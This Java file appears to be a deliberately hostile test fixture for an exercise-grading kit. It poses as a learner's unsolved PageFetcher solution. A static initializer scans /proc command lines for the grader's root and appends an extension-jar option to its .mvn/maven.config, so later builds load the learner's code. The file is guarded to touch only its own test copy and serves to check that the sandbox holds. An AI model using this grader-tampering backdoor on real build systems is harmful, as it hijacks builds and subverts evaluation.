package asynckit.ex01;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Stream;

/**
 * Hostile: unsolved, and looks for the kit the grader runs from (the --root of any process it can see,
 * and kit.root) to add options and an extension folder to its .mvn/maven.config, so that every later
 * build of the kit loads the learner's code. Safety: it writes only under paths containing
 * "asynckit-hostile" (the test's own copy of the kit).
 */
public final class PageFetcher {
    static {
        try (Stream<Path> procs = Files.list(Path.of("/proc"))) {
            for (Path p : procs.toList()) {
                try {
                    String cmdline = new String(Files.readAllBytes(p.resolve("cmdline"))).replace('\0', ' ');
                    for (String arg : cmdline.split(" ")) {
                        String value = arg.startsWith("--root=") ? arg.substring(7)
                                : arg.startsWith("-Dkit.root=") ? arg.substring(11) : arg;
                        backdoor(value);
                    }
                } catch (Exception ignored) {
                    // not ours to read
                }
            }
        } catch (Exception ignored) {
            // no /proc
        }
        backdoor(System.getProperty("kit.root", ""));
    }

    private static void backdoor(String root) {
        if (!root.contains("asynckit-hostile")) {
            return;
        }
        Path config = Path.of(root, ".mvn", "maven.config");
        if (Files.isRegularFile(config)) {
            try {
                Files.writeString(config, "\n-Dmaven.ext.class.path=/tmp/asynckit-hostile-ext.jar\n",
                        StandardOpenOption.APPEND);
            } catch (Exception ignored) {
                // read-only: the sandbox held
            }
        }
    }

    public PageFetcher(PageClient client) {
    }

    public CompletableFuture<List<String>> fetchAll(List<String> urls) {
        throw new UnsupportedOperationException("not written");
    }
}
